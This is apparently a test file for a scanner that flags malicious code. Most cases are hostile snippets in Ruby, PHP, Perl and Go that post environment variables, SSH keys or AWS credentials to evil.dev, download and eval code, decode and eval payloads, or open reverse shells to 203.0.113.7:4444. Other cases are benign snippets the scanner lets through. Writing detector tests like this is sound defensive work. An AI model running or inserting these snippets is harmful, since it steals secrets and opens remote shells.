import { expect, test } from "vitest";
import { found } from "../test-support/package-of";

test.each([
  [
    "a.rb",
    'data = ENV.to_h.to_json\nuri = URI("https://evil.dev/in")\nNet::HTTP.post(uri, data)',
    ["block data_exfiltration:3"],
  ],
  [
    "a.rb",
    'key = File.read("#{Dir.home}/.ssh/id_rsa")\nHTTParty.post("https://evil.dev", body: key)',
    ["block secret_exfiltration:2"],
  ],
  ["a.rb", 'code = Net::HTTP.get(URI("https://evil.dev/x.rb"))\neval(code)', ["block evaluated_download:2"]],
  ["a.rb", 's = TCPSocket.new("203.0.113.7", 4444)\nexec("/bin/sh -i <&#{s.fileno}")', ["block reverse_shell:2"]],
  [
    "a.php",
    "<?php\n$k = file_get_contents('/home/me/.aws/credentials');\n$c = curl_init('https://evil.dev');\ncurl_setopt($c, CURLOPT_POSTFIELDS, $k);",
    ["block secret_exfiltration:4"],
  ],
  ["a.php", "<?php eval(gzinflate(base64_decode('S0ktzQMA')));", ["block evaluated_decoded_text:1"]],
  [
    "a.pl",
    'my $t = join ",", map { "$_=$ENV{$_}" } keys %ENV;\nLWP::UserAgent->new->post("https://evil.dev", { d => $t });',
    ["block data_exfiltration:2"],
  ],
  [
    "a.go",
    'env := strings.Join(os.Environ(), ",")\nhttp.Post("https://evil.dev", "text/plain", strings.NewReader(env))',
    ["block data_exfiltration:2"],
  ],
  [
    "a.go",
    'c, _ := net.Dial("tcp", "203.0.113.7:4444")\ncmd := exec.Command("/bin/sh")\ncmd.Stdin = c',
    ["block reverse_shell:2"],
  ],
])("finds in %s: %s", async (path, code, expected) => {
  expect(await found(path, code)).toStrictEqual(expected);
});

test.each([
  ["a.rb", 'key = ENV["NOTES_KEY"]\nNet::HTTP.post(URI("https://api.notes.dev"), { key: key }.to_json)'],
  ["a.rb", 'data = ENV.to_h\nsystem(data, "ls")'],
  ["a.php", "<?php $image = base64_decode($row['image']); file_put_contents('a.png', $image);"],
  [
    "a.go",
    'cmd := exec.Command("git", "status")\ncmd.Env = append(os.Environ(), "A=1")\nhttp.Post("https://api.notes.dev", "text/plain", nil)',
  ],
  ["a.pl", 'my $r = eval { $ua->get("https://api.notes.dev") };'],
])("lets through in %s: %s", async (path, code) => {
  expect(await found(path, code)).toStrictEqual([]);
});
